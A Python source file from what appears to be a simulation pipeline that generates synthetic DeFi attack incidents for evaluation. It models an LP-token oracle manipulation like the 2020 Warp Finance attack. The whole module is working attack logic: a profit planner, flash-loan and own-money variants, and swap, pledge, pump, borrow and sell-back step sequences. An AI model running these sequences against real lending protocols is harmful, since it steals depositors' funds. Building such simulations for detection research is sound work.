"""LP oracle manipulation: pump a pair whose reserves value the pledged share, borrow (Warp Finance 2020)."""

from __future__ import annotations

from dataclasses import dataclass

from pipelines.simulation.attacks.family import Family
from pipelines.simulation.attacks.incident import (
    Incident,
    attacker,
    home,
    leave,
    run_flash,
    run_script,
    run_steps,
    runner,
)
from pipelines.simulation.bytecode import SELF, Step
from pipelines.simulation.engine import Account
from pipelines.simulation.habits.lp_lending import paired_token
from pipelines.simulation.world import (
    DEADLINE,
    ETH,
    FOREVER,
    Part,
    Place,
    Session,
    Token,
    World,
    amount_out,
    step,
)

_LEAST = ETH // 2


@dataclass(frozen=True)
class Raid:
    """Amounts of one attack, in base units."""

    market: Place
    token: Token
    entry: int
    """WETH swapped for the token that goes into the pool with as much WETH again."""
    bought: int
    added: int
    share: int
    pump: int
    pumped: int
    borrowed: int
    gain: int

    @property
    def capital(self) -> int:
        """WETH needed at most."""
        return self.entry + self.added + self.pump


def plan(world: World, most: int) -> Raid | None:
    """Return one of the raids that pay, using at most `most` wei; not all take everything."""
    options = []
    greed = 0.25 + 0.75 * world.rng.random()
    for market in world.places.get("lp_market", []):
        if market.tokens[0].kind != "pair_share":
            continue
        token = paired_token(world, market)
        pool = world.reserves(world.weth, token)
        supply = world.view("pair", market.tokens[0].address, "totalSupply")
        cash = int(world.view("lp_market", market.address, "cash") * greed)
        factor = world.view("lp_market", market.address, "factor")
        for entry in (3, 8, 15, 25, 40):
            for scale in (0.5, 1.0, 1.7, 2.5, 4.0):
                pump = int(pool[0] * scale)
                raid = _evaluate(market, token, (*pool, supply), entry * ETH, pump, cash, factor)
                if raid is not None and raid.gain > _LEAST and raid.capital <= most:
                    options.append(raid)
    return options[int(world.rng.integers(len(options)))] if options else None


def _evaluate(
    market: Place,
    token: Token,
    pool: tuple[int, int, int],
    entry: int,
    pump: int,
    cash: int,
    factor: int,
) -> Raid | None:
    """Try a raid on a pool of (WETH, token, shares)."""
    weth, other, supply = pool
    bought = amount_out(entry, weth, other)
    weth, other = weth + entry, other - bought
    added = bought * weth // other
    share = min(added * supply // weth, bought * supply // other)
    weth, other, supply = weth + added, other + bought, supply + share
    pumped = amount_out(pump, weth, other)
    weth, other = weth + pump, other - pumped
    limit = share * (2 * weth * 10**18 // supply) // 10**18 * factor // 100
    borrowed = min(limit * 998 // 1000, cash)
    back = amount_out(pumped, other, weth)
    gain = borrowed + back - entry - added - pump - (entry + added + pump) // 1000
    if share == 0 or borrowed == 0:
        return None
    return Raid(market, token, entry, bought, added, share, pump, pumped, borrowed, gain)


def lp_oracle(world: World, incident: Incident) -> Session:
    """Pledge a share, make it look dear, borrow more than it is worth, sell what made it look dear."""
    own_money = world.chance(0.65)
    most = (700 if own_money else 3000) * ETH
    found = plan(world, most)
    if found is None:
        return
    who = yield from attacker(world, incident, found.capital / ETH * 1.05 + 0.5 if own_money else 1.0)
    incident.variant.append("own-money" if own_money else "flash-loan")
    draw = world.rng.random()
    if own_money and draw < 0.75:
        yield from _by_hand(world, incident, who, found.capital)
    elif not own_money and draw < 0.4:
        yield from _by_script(world, incident, who, most)
    else:
        limit = found.capital if own_money else most
        yield from _by_executor(world, incident, who, limit, own_money=own_money)
    if incident.exploits:
        incident.finish()
        yield from leave(world, incident, who)


def _swap(world: World, path: list[Token], amount: int, me: bytes) -> Step:
    router = world.the("router").address
    call = (amount, 1, [token.address for token in path], me, DEADLINE)
    return step("router", router, "swapExactTokensForTokens", *call)


def _steps(world: World, raid: Raid, me: bytes) -> list[Step]:
    """Return all of it as steps of a contract `me` that holds the capital in WETH."""
    router, weth, token, market = world.the("router").address, world.weth, raid.token, raid.market.address
    share = raid.market.tokens[0].address
    pool = (weth.address, token.address, raid.added, raid.bought, 0, 0, me, DEADLINE)
    return [
        step("token", weth.address, "approve", router, FOREVER),
        _swap(world, [weth, token], raid.entry, me),
        step("token", token.address, "approve", router, FOREVER),
        step("router", router, "addLiquidity", *pool),
        step("token", share, "approve", market, FOREVER),
        step("lp_market", market, "deposit", raid.share),
        _swap(world, [weth, token], raid.pump, me),
        step("lp_market", market, "borrow", raid.borrowed),
        _swap(world, [token, weth], raid.pumped, me),
    ]


def _by_executor(world: World, incident: Incident, who: Account, most: int, *, own_money: bool) -> Part:
    """All of it in one transaction of an executor."""
    tool = yield from runner(world, incident, who)
    raid = plan(world, most)
    if raid is None:
        return
    steps = _steps(world, raid, tool.address)
    if own_money:
        steps.insert(0, step("weth", world.weth.address, "deposit", value=raid.capital))
        yield from run_steps(world, incident, who, tool, steps)
    else:
        yield from run_flash(world, incident, who, tool, steps, raid.capital)
    yield from home(world, incident, who, tool)


def _by_script(world: World, incident: Incident, who: Account, most: int) -> Part:
    """A contract written for this raid borrows and repays by itself; a stale one is made anew."""
    incident.variant.append("script")
    lender, weth = world.pick(world.places["flash_lender"]).address, world.weth.address
    for _ in range(6):
        raid = plan(world, most)
        if raid is None:
            return
        loan = raid.capital
        inner = [*_steps(world, raid, SELF), step("token", weth, "approve", lender, loan * 2)]
        outer = [step("flash_lender", lender, "flashLoan", SELF, weth, loan, b"")]
        done = yield from run_script(world, incident, who, outer, inner=inner)
        if done:
            return


def _by_hand(world: World, incident: Incident, who: Account, most: int) -> Part:
    """Provide and pledge like anybody; then pump, borrow and sell in three short transactions."""
    raid = plan(world, most)
    if raid is None:
        return
    incident.variant.append("by-hand")
    router, token, market = world.the("router").address, raid.token, raid.market.address
    share = raid.market.tokens[0]
    path = [world.weth.address, token.address]
    before = world.held(token, who.address)
    buy = ("swapExactETHForTokens", 1, path, who.address, DEADLINE)
    yield incident.call("prep", who, "router", router, *buy, value=raid.entry)
    yield incident.call("prep", who, "token", token.address, "approve", router, FOREVER)
    bought = world.held(token, who.address) - before
    add = ("addLiquidityETH", token.address, bought, 0, 0, who.address, DEADLINE)
    yield incident.call("prep", who, "router", router, *add, value=raid.added * 101 // 100)
    held = world.held(share, who.address)
    yield incident.call("prep", who, "token", share.address, "approve", market, held)
    yield incident.call("prep", who, "lp_market", market, "deposit", held)
    for _ in range(int(world.rng.integers(40))):
        yield None
    for _ in range(5):
        yield from _pump_and_borrow(world, incident, who, raid)
        if incident.gain > 0:
            return


def _pump_and_borrow(world: World, incident: Incident, who: Account, raid: Raid) -> Part:
    """Pump, borrow, sell; somebody who sells in between can spoil one round, hardly the next."""
    router, token, market = world.the("router").address, raid.token, raid.market.address
    path = [world.weth.address, token.address]
    buy = ("swapExactETHForTokens", 1, path, who.address, DEADLINE)
    pump = min(raid.pump, world.ether(who.address) - ETH // 4)
    before = world.held(token, who.address)
    yield incident.call("exploit", who, "router", router, *buy, value=pump)
    limit = world.view("lp_market", market, "limit", who.address)
    cash = world.view("lp_market", market, "cash")
    amount = min(limit * 99 // 100 - world.view("lp_market", market, "debt", who.address), cash)
    if amount > 0:
        yield incident.call("exploit", who, "lp_market", market, "borrow", amount)
    rest = world.held(token, who.address) - before
    sale = ("swapExactTokensForETH", rest, 1, path[::-1], who.address, DEADLINE)
    yield incident.call("exploit", who, "router", router, *sale)


FAMILIES = (
    Family(
        name="lp_oracle",
        tier="mimicry",
        split="eval",
        modelled_on="Warp Finance (2020)",
        about="Pledge a pool share that a market values by the pool's reserves, pump the pool, borrow, "
        "sell back.",
        run=lp_oracle,
    ),
)
